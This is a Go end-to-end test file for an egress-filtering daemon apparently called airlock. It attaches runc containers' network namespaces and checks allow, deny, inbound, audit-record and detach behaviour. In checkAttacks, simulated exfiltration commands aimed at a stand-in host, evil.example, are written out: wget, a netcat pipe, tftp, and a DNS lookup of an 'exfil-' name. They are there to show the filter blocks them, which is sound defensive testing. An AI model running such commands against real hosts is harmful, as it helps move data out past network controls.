package e2e

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/api"
	"github.com/airlock-dev/airlock/audit"
	"github.com/airlock-dev/airlock/audit/audittest"
	"github.com/airlock-dev/airlock/netns/netnstest"
	"github.com/airlock-dev/airlock/test/poll"
	"github.com/airlock-dev/airlock/test/runctest"
	"github.com/airlock-dev/airlock/test/servetest"
)

// podNet is the network a container platform gives a pod before airlock is
// asked to attach it, as containerd and CRI-O do for CNI: a namespace pinned at
// /run/netns/NAME with lo up and an eth0 (a veth whose peer sits in the fake
// internet's namespace, standing in for the node's bridge) with an address and
// a default route, so without airlock the pod reaches every fake host.
type podNet struct {
	name, path string
	// routed: the namespace has a route to the fake internet of its own.
	routed bool
}

// in runs argv in the namespace.
func (p *podNet) in(t *testing.T, argv ...string) string {
	t.Helper()
	return mustRun(t, append([]string{"nsenter", "--net=" + p.path, "--"}, argv...)...)
}

// Addresses of the pod's veth; the peer end is in the fake internet's
// namespace, which answers the pod over it.
const (
	podPeerAddr = "198.18.77.1"
	podAddr     = "198.18.77.2"
)

func newPodNet(t *testing.T) *podNet {
	t.Helper()
	p := &podNet{name: netnstest.NSName("pod"), routed: true}
	p.path = "/run/netns/" + p.name
	podSide, peer := netnstest.LinkName("c"), netnstest.LinkName("p")
	t.Cleanup(func() {
		// Deleting the namespace deletes the veth pair, the peer included.
		_ = exec.Command("ip", "netns", "delete", p.name).Run()
		_ = exec.Command("ip", "-n", w.net.Name, "link", "delete", peer).Run()
	})
	for _, argv := range [][]string{
		{"ip", "netns", "add", p.name},
		{"ip", "-n", p.name, "link", "set", "lo", "up"},
		{"ip", "link", "add", podSide, "netns", p.name, "type", "veth", "peer", "name", peer, "netns", w.net.Name},
		{"ip", "-n", p.name, "link", "set", podSide, "name", "eth0"},
		{"ip", "-n", p.name, "addr", "add", podAddr + "/30", "dev", "eth0"},
		{"ip", "-n", p.name, "link", "set", "eth0", "up"},
		{"ip", "-n", p.name, "route", "add", "default", "via", podPeerAddr},
		{"ip", "-n", w.net.Name, "addr", "add", podPeerAddr + "/30", "dev", peer},
		{"ip", "-n", w.net.Name, "link", "set", peer, "up"},
	} {
		mustRun(t, argv...)
	}
	return p
}

func mustRun(t *testing.T, argv ...string) string {
	t.Helper()
	out, err := exec.Command(argv[0], argv[1:]...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s: %v: %s", strings.Join(argv, " "), err, out)
	}
	return string(out)
}

// inbound fetches the pod's page on port 8080 from the fake internet's side
// of the veth.
func (p *podNet) inbound() (string, error) { return p.inboundAt(8080) }

// inboundAt fetches the pod's page on port from the fake internet's side.
func (p *podNet) inboundAt(port int) (string, error) {
	out, err := exec.Command("ip", "netns", "exec", w.net.Name, "timeout", "10",
		"busybox", "wget", "-q", "-O-", fmt.Sprintf("http://%s:%d/", podAddr, port)).Output()
	return string(out), err
}

// saveCmds are the two iptables backends' save commands.
var saveCmds = map[string]string{"legacy": "iptables-legacy-save", "nft": "iptables-nft-save"}

// state is what an attach changes in the pod's namespace and a detach must put
// back: both backends' rules, the sysctls it writes, addresses and routes.
func (p *podNet) state(t *testing.T) map[string]string {
	t.Helper()
	s := map[string]string{}
	for backend, save := range saveCmds {
		s["rules "+backend] = normalizeSave(p.in(t, save))
	}
	s["sysctls"] = p.in(t, "sh", "-c",
		"grep -H . /proc/sys/net/ipv4/conf/*/route_localnet /proc/sys/net/ipv6/conf/*/disable_ipv6")
	s["addresses"] = p.in(t, "ip", "addr")
	s["routes"] = sortedLines(p.in(t, "ip", "-4", "route", "show", "table", "all") +
		p.in(t, "ip", "-6", "route", "show", "table", "all"))
	return s
}

// settled is state once no IPv6 address is tentative any more: duplicate
// address detection on eth0's link-local address ends a second or so after
// the link comes up, and again after a detach clears disable_ipv6.
func (p *podNet) settled(t *testing.T) map[string]string {
	t.Helper()
	var s map[string]string
	poll.Until(t, 20*time.Second, "no tentative IPv6 address in "+p.path, func() bool {
		s = p.state(t)
		return !strings.Contains(s["addresses"], "tentative")
	})
	return s
}

var counters = regexp.MustCompile(` \[[0-9]+:[0-9]+\]$`)

// normalizeSave keeps what iptables-save says about rules: no comments or
// packet counters, and no table that holds nothing (built-in chains with
// policy ACCEPT only), which is what an absent table and an emptied one both
// mean.
func normalizeSave(s string) string {
	var out strings.Builder
	for _, table := range strings.SplitAfter(s, "COMMIT\n") {
		var lines []string
		empty := true
		for _, l := range strings.Split(table, "\n") {
			if l == "" || strings.HasPrefix(l, "#") {
				continue
			}
			l = counters.ReplaceAllString(l, "")
			if strings.HasPrefix(l, "-A") || (strings.HasPrefix(l, ":") && !strings.HasSuffix(l, " ACCEPT")) {
				empty = false
			}
			lines = append(lines, l)
		}
		if !empty {
			out.WriteString(strings.Join(lines, "\n") + "\n")
		}
	}
	return out.String()
}

func sortedLines(s string) string {
	lines := strings.Split(strings.TrimSpace(s), "\n")
	slices.Sort(lines)
	return strings.Join(lines, "\n")
}

// TestRuncContainerAttach takes the path a container platform takes with a
// real OCI runtime: runc starts a busybox container in the pod's pinned
// network namespace, the namespace is attached through the daemon's API
// (POST /v1/attach, as the CNI plugin does), and from inside the container an
// allowed host is reached only through airlock, by the explicit proxy and by a
// direct connection after DNS through the filter, while a denied host sees
// nothing by name, by address or over UDP. Detach leaves the namespace as it
// was. It runs twice on the same container: first with the platform's own
// rule in iptables-nft only (airlock then uses nft), then with one in
// iptables-legacy too (airlock uses legacy); each round must change only the
// backend it chose.
func TestRuncContainerAttach(t *testing.T) {
	e := newServeEnv(t)
	d := startServe(t, e, filepath.Join(e.dir, "run"))
	pod := newPodNet(t)
	ctr := runctest.Start(t, runctest.Options{
		NetNS: pod.path,
		Files: map[string]string{
			"etc/resolv.conf": "nameserver " + w.net.DNSAddr.Addr().String() + "\n",
			"www/index.html":  "served by the pod\n",
		},
	})
	// Servers in the pod (busybox httpd goes to the background by itself):
	// 8080 is the port an accept round lets in, 8081 one it does not.
	for _, port := range []string{"8080", "8081"} {
		if r := ctr.Exec(nil, "httpd", "-p", port, "-h", "/www"); r.Code != 0 {
			t.Fatalf("httpd on %s in the container: %s", port, r)
		}
	}
	for _, port := range []int{8080, 8081} {
		if out, err := pod.inboundAt(port); err != nil || out != "served by the pod\n" {
			t.Fatalf("baseline inbound GET of %d from the fake internet: %v: %q", port, err, out)
		}
	}
	if dirs := ctr.CgroupDirs(); len(dirs) == 0 {
		t.Errorf("container %s has no cgroup directory named %s", ctr.ID, ctr.Cgroup)
	}

	// Without airlock the container reaches the host airlock will deny: what
	// the attach must stop is possible.
	evil := snap(w.evil)
	if r := ctr.Exec(nil, "timeout", "20", "wget", "-q", "-O-", "http://evil.example/runc-baseline"); r.Code != 0 || !strings.Contains(r.Stdout, "hello from evil.example/runc-baseline") {
		t.Fatalf("baseline wget from the container: %s", r)
	}
	if got := snap(w.evil).sub(evil).conns; got != 1 {
		t.Fatalf("evil.example connections from the unattached container: got %d, want 1", got)
	}
	if seen := w.evil.Seen(); !strings.HasPrefix(seen[len(seen)-1].RemoteAddr, podAddr+":") {
		t.Fatalf("the unattached container's request came from %s, want %s", seen[len(seen)-1].RemoteAddr, podAddr)
	}

	pod.in(t, "iptables-nft", "-w", "-A", "INPUT", "-p", "tcp", "--dport", "9",
		"-m", "comment", "--comment", "alk-platform-nft", "-j", "ACCEPT")
	t.Run("platform rules in nft", func(t *testing.T) { attachRound(t, e, d, pod, ctr, "nft", nil, nil) })
	pod.in(t, "iptables-legacy", "-w", "-A", "INPUT", "-p", "tcp", "--dport", "9",
		"-m", "comment", "--comment", "alk-platform-legacy", "-j", "ACCEPT")
	// This round lets connections in on 8080, as airlock-cni does for a pod.
	accept := &api.Inbound{Mode: api.InboundAccept, Ports: []int{8080}}
	t.Run("platform rules in legacy too, inbound accept", func(t *testing.T) { attachRound(t, e, d, pod, ctr, "legacy", accept, nil) })
}

// TestRuncOwnNamespaceAttach is the other way a platform can go: runc makes
// the container's network namespace itself (lo only, no route) at `runc
// create`, the namespace is found by the container's pid and attached as
// /proc/PID/ns/net, and only then does `runc start` run the workload, whose
// very first connection already goes through airlock. airlock gives the
// namespace the island address and route, and detach takes them away again.
func TestRuncOwnNamespaceAttach(t *testing.T) {
	e := newServeEnv(t)
	d := startServe(t, e, filepath.Join(e.dir, "run"))
	first := "/runc-first-" + sandboxID("w")
	ctr := runctest.Start(t, runctest.Options{
		Files: map[string]string{"etc/resolv.conf": "nameserver " + w.net.DNSAddr.Addr().String() + "\n"},
		Args: []string{"sh", "-c", "timeout 20 wget -q -O /tmp/first http://other.example.test" + first +
			"; echo $? >/tmp/first.code; exec sleep 600"},
		Created: true,
	})
	own := &podNet{path: fmt.Sprintf("/proc/%d/ns/net", ctr.Pid())}
	attachRound(t, e, d, own, ctr, "legacy", nil, func(id string) {
		ctr.Begin()
		var r runctest.Result
		poll.Until(t, 30*time.Second, "the workload's first wget", func() bool {
			r = ctr.Exec(nil, "cat", "/tmp/first.code", "/tmp/first")
			return r.Code == 0
		})
		if r.Stdout != "0\nhello from other.example.test"+first+"\n" {
			t.Errorf("the workload's first wget: %s", r)
		}
		if !slices.ContainsFunc(w.other.Seen(), func(r *http.Request) bool { return r.URL.Path == first }) {
			t.Errorf("other.example.test never served %s", first)
		}
		poll.Until(t, 20*time.Second, "the audit record of the workload's first wget", func() bool {
			recs, _ := audittest.ReadFile(e.audit)
			return slices.ContainsFunc(recs, func(r audit.Record) bool {
				return r.Sandbox == id && r.Decision == audit.DecisionAllow && r.Path == first
			})
		})
	})
	if r := ctr.Exec(nil, "timeout", "20", "wget", "-q", "-O-", "http://"+w.evil.IP.String()+"/runc-own"); r.Code == 0 {
		t.Errorf("the container's own namespace reached the fake internet after the detach: %s", r)
	}
}

// attachRound attaches the pod with inbound (nil: the default, capture),
// calls onAttach (if not nil), checks egress from the container, inbound
// connections and its audit records, detaches and compares the namespace
// with what it was; backend is the one airlock must pick.
func attachRound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, ctr *runctest.Container, backend string, inbound *api.Inbound, onAttach func(id string)) {
	before := pod.settled(t)
	id := sandboxID("runc-" + backend)
	detach := attachPod(t, d, pod, ctr, id, inbound)
	for b, save := range saveCmds {
		rules := pod.in(t, save)
		if got := strings.Contains(rules, "AIRLOCK"); got != (b == backend) {
			t.Errorf("%s holds airlock's rules: %v, want %v\n%s", save, got, b == backend, rules)
		}
	}
	if onAttach != nil {
		onAttach(id)
	}
	evil := snap(w.evil)
	checkAllowed(t, ctr, id)
	checkAttacks(t, pod, ctr, id)
	checkInbound(t, e, d, pod, id, inbound)
	if got := snap(w.evil).sub(evil); got != (counts{}) {
		t.Errorf("denied host saw %+v (connections, requests, datagrams), want none", got)
	}
	checkRecords(t, e, id)

	detach()
	// The IPv6 link-local address comes back when disable_ipv6 is cleared.
	after := pod.settled(t)
	for k, v := range before {
		if after[k] != v {
			t.Errorf("%s after detach:\n%s\nwant (before attach):\n%s", k, after[k], v)
		}
	}
	if !pod.routed {
		return
	}
	if out, err := pod.inbound(); err != nil || out != "served by the pod\n" {
		t.Errorf("inbound GET after detach: %v: %q", err, out)
	}
	// And the container reaches the fake internet directly again.
	evil = snap(w.evil)
	if r := wgetIn(ctr, nil, "http://evil.example/runc-after-"+backend); r.Code != 0 || snap(w.evil).sub(evil).conns != 1 {
		t.Errorf("direct wget after detach: %s (connections %d, want 1)", r, snap(w.evil).sub(evil).conns)
	}
}

// attachPod attaches the pod's namespace through the daemon's API, as the CNI
// plugin does, and returns the detach; a round that fails before it detaches
// at its end.
func attachPod(t *testing.T, d *servetest.Daemon, pod *podNet, ctr *runctest.Container, id string, inbound *api.Inbound) (detach func()) {
	t.Helper()
	req := api.AttachRequest{ID: id, NetNS: pod.path, Labels: map[string]string{"runtime": "runc", "container": ctr.ID}, Inbound: inbound}
	if err := d.C.Attach(context.Background(), req); err != nil {
		t.Fatalf("attach %s: %v\n%s", pod.path, err, d.Output())
	}
	attached := true
	t.Cleanup(func() {
		if !attached {
			return
		}
		if err := d.C.Detach(context.Background(), id); err != nil {
			t.Errorf("detach at cleanup: %v", err)
			// Without the daemon's bind mount the namespace goes with its
			// container.
			bind := filepath.Join("/run/netns", "airlock-"+id)
			_ = syscall.Unmount(bind, syscall.MNT_DETACH)
			_ = os.Remove(bind)
		}
	})
	return func() {
		t.Helper()
		if err := d.C.Detach(context.Background(), id); err != nil {
			t.Fatalf("detach: %v", err)
		}
		attached = false
	}
}

func wgetIn(ctr *runctest.Container, env []string, url string) runctest.Result {
	return ctr.Exec(env, "timeout", "20", "wget", "-q", "-O-", url)
}

// proxyEnv points busybox wget at the gateway's explicit proxy.
var proxyEnv = []string{"http_proxy=http://127.0.0.1:3128"}

// The paths the allowed host serves in a round: by the explicit proxy, and
// by a direct connection (DNS goes to the pod's resolver, which the filter
// answers in its place; the connection to the address it gave is captured).
func proxyPath(id string) string  { return "/runc-proxy-" + id }
func directPath(id string) string { return "/runc-direct-" + id }

// checkAllowed fetches from the allowed host both ways and checks that each
// request reached it once, from the gateway.
func checkAllowed(t *testing.T, ctr *runctest.Container, id string) {
	t.Helper()
	n := len(w.other.Seen())
	for _, a := range []struct {
		name string
		env  []string
		path string
	}{
		{"explicit proxy", proxyEnv, proxyPath(id)},
		{"direct connection", nil, directPath(id)},
	} {
		if r := wgetIn(ctr, a.env, "http://other.example.test"+a.path); r.Code != 0 || !strings.Contains(r.Stdout, "hello from other.example.test"+a.path) {
			t.Errorf("%s to the allowed host: %s", a.name, r)
		}
	}
	var paths []string
	for _, r := range seenSince(w.other, n) {
		paths = append(paths, r.URL.Path)
		// Only through airlock: the gateway, on the host's side of the fake
		// internet, made the connection, not the pod.
		if host, _, _ := net.SplitHostPort(r.RemoteAddr); host != w.net.HostAddr.String() {
			t.Errorf("%s came from %s, want the gateway's %s", r.URL.Path, r.RemoteAddr, w.net.HostAddr)
		}
	}
	if want := []string{proxyPath(id), directPath(id)}; !slices.Equal(paths, want) {
		t.Errorf("allowed host served %q, want %q", paths, want)
	}
}

// checkAttacks tries the denied host every way busybox can from inside the
// container, and an inbound connection and a route change from outside and
// inside; the caller checks the denied host's counters.
func checkAttacks(t *testing.T, pod *podNet, ctr *runctest.Container, id string) {
	t.Helper()
	evilIP := w.evil.IP.String()
	for _, a := range []struct {
		name string
		env  []string
		argv []string
	}{
		{"denied host through the proxy", proxyEnv, []string{"wget", "-q", "-O-", "http://evil.example/runc-proxy"}},
		{"denied host by name, no proxy", nil, []string{"wget", "-q", "-O-", "http://evil.example/runc-direct"}},
		{"denied host by address", nil, []string{"wget", "-q", "-O-", "http://" + evilIP + "/runc-ip"}},
		{"raw TCP to the denied host's echo port", nil, []string{"sh", "-c", "echo x | nc -w 3 " + evilIP + " 7"}},
		{"UDP to the denied host", nil, []string{"tftp", "-g", "-r", "x", "-l", "/tmp/x", evilIP, "7"}},
		{"DNS to the denied host as resolver", nil, []string{"nslookup", "exfil-" + id + ".evil.example", evilIP}},
	} {
		r := ctr.Exec(a.env, append([]string{"timeout", "10"}, a.argv...)...)
		if strings.Contains(r.Stdout, "hello from") || strings.Contains(r.Stdout, "x\n") {
			t.Errorf("%s: answered: %s", a.name, r)
		}
	}
	// The container holds no CAP_NET_ADMIN: it cannot take its route or
	// rules away.
	if r := ctr.Exec(nil, "ip", "route", "del", "default"); r.Code == 0 {
		t.Errorf("the container deleted its default route: %s", r)
	}
}

// checkInbound fetches the pod's pages from the fake internet's side of the
// veth. With capture (inbound nil) what arrives is taken for egress and no
// page is served; with accept on 8080 that page is served and 8081's is
// not, and the refused connection is a drop record.
func checkInbound(t *testing.T, e *env, d *servetest.Daemon, pod *podNet, id string, inbound *api.Inbound) {
	t.Helper()
	if !pod.routed {
		return
	}
	if inbound == nil {
		for _, port := range []int{8080, 8081} {
			if out, err := pod.inboundAt(port); err == nil || strings.Contains(out, "served by the pod") {
				t.Errorf("capture: inbound GET of %d reached the attached pod's server: %v: %q", port, err, out)
			}
		}
		return
	}
	if out, err := pod.inboundAt(8080); err != nil || out != "served by the pod\n" {
		t.Errorf("accept: inbound GET of the accepted port 8080: %v: %q, want the pod's page", err, out)
	}
	if out, err := pod.inboundAt(8081); err == nil || strings.Contains(out, "served by the pod") {
		t.Errorf("accept: inbound GET of 8081, not accepted, reached the pod's server: %v: %q", err, out)
	}
	var st *api.AttachStatus
	var err error
	poll.Within(10*time.Second, func() bool {
		st, err = d.C.CheckAttach(context.Background(), id)
		return err == nil && st.InboundAccepted >= 1
	})
	if err != nil || st == nil || !st.InForce || st.Inbound.Mode != api.InboundAccept || st.InboundAccepted < 1 {
		t.Errorf("accept: the daemon's view: %+v, %v; want in force, accept, at least one connection counted", st, err)
	}
	refused := func(r audit.Record) bool {
		return r.Sandbox == id && r.Kind == audit.KindDrop && r.Protocol == "tcp" && r.IP == podAddr && r.Port == 8081
	}
	if !poll.Within(20*time.Second, func() bool {
		recs, _ := audittest.ReadFile(e.audit)
		return slices.ContainsFunc(recs, refused)
	}) {
		t.Errorf("accept: no drop record of the refused connection to %s:8081", podAddr)
	}
}

// checkRecords waits for every decision of the round in the audit log under
// the attached sandbox's id.
func checkRecords(t *testing.T, e *env, id string) {
	t.Helper()
	evilIP := w.evil.IP.String()
	wantRecs := []struct {
		what string
		ok   func(audit.Record) bool
	}{
		{"allow through the proxy", func(r audit.Record) bool {
			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == proxyPath(id)
		}},
		{"allow of the direct connection", func(r audit.Record) bool {
			return r.Decision == audit.DecisionAllow && r.Host == "other.example.test" && r.Path == directPath(id)
		}},
		{"DNS through the filter", func(r audit.Record) bool {
			return r.Kind == audit.KindDNS && strings.TrimSuffix(r.QName, ".") == "other.example.test"
		}},
		{"deny of the denied host by name", func(r audit.Record) bool {
			return r.Decision == audit.DecisionDeny && r.Host == "evil.example"
		}},
		{"deny of the denied host by address", func(r audit.Record) bool {
			return r.Decision == audit.DecisionDeny && r.Kind != audit.KindDrop && (r.Host == evilIP || r.IP == evilIP)
		}},
		{"drop of the UDP datagram", func(r audit.Record) bool {
			return r.Kind == audit.KindDrop && r.Protocol == "udp" && r.IP == evilIP && r.Port == 7
		}},
		{"deny of the exfiltrating DNS name", func(r audit.Record) bool {
			return r.Kind == audit.KindDNS && r.Decision == audit.DecisionDeny && strings.HasPrefix(r.QName, "exfil-"+id)
		}},
	}
	var mine []audit.Record
	complete := poll.Within(20*time.Second, func() bool {
		mine = mine[:0]
		recs, _ := audittest.ReadFile(e.audit)
		for _, r := range recs {
			if r.Sandbox == id {
				mine = append(mine, r)
			}
		}
		for _, wr := range wantRecs {
			if !slices.ContainsFunc(mine, wr.ok) {
				return false
			}
		}
		return true
	})
	if complete {
		return
	}
	for _, wr := range wantRecs {
		if !slices.ContainsFunc(mine, wr.ok) {
			t.Errorf("no audit record for %s", wr.what)
		}
	}
	t.Logf("records of %s:\n%s", id, dump(mine))
}
